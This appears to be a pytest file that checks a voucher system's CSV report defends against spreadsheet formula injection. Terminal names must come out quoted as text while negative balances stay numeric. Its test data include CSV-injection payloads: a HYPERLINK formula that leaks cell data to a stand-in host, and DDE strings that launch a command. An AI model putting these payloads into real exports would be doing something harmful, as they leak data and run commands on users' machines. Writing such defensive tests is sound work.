"""The reports' CSV never hands the operator's spreadsheet a formula (issue 26, item 7): a
terminal named ``=HYPERLINK(…)`` is text there, while a negative amount is still a number.
Through a real server: terminals registered with such names, a voucher issued by one and
redeemed by another (whose balance is then negative), the CSV as the console serves it."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from backend.operators import create_operator
from tests.servers import NOON, LiveServer

from .conftest import DAY, PASSWORD, Operator

NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize(
    ("lang", "delimiter", "minus"), [("fr", ";", "-6,50"), ("en", ",", "-6.50")]
)
def test_a_terminals_name_is_text_and_a_negative_amount_a_number(
    live_server: LiveServer, lang: str, delimiter: str, minus: str
) -> None:
    live_server.tote.call(
        lambda desk: create_operator(desk.store, "sue", "supervisor", PASSWORD, NOON)
    ).result(timeout=30)
    issuer, payer, *others = (live_server.terminal(name) for name in NAMES)
    with issuer, payer:
        voucher = issuer.post(
            "/v1/vouchers",
            json={"transaction_id": str(uuid.uuid4()), "amount": 650, "reason": "cash_out"},
        )
        assert voucher.status_code == 200, voucher.text
        paid = payer.post(
            "/v1/vouchers/redemptions",
            json={
                "transaction_id": str(uuid.uuid4()),
                "barcode": voucher.json()["barcode"],
                "method": "cash",
            },
        )
        assert paid.status_code == 200, paid.text
    for client in others:
        client.close()
    sue = Operator(live_server, "sue", lang)
    try:
        answer = sue.http.get(f"/console/reports.csv?day={DAY}")
    finally:
        sue.http.close()
    assert answer.status_code == 200, answer.text[:300]
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")), delimiter=delimiter))
    names = [row[1] for row in rows[1:-1]]
    assert sorted(names) == sorted("'" + name for name in NAMES)  # each read as text
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row[:3]
    )
    balance = rows[0].index("Solde de caisse (€)" if lang == "fr" else "Balance (€)")
    by_name = {row[1][1:]: row for row in rows[1:-1]}
    assert by_name[NAMES[1]][balance] == minus  # a number, as the spreadsheet reads one
    assert by_name[NAMES[0]][balance] == minus.removeprefix("-")
    assert rows[-1][balance] == ("0,00" if lang == "fr" else "0.00")  # the total
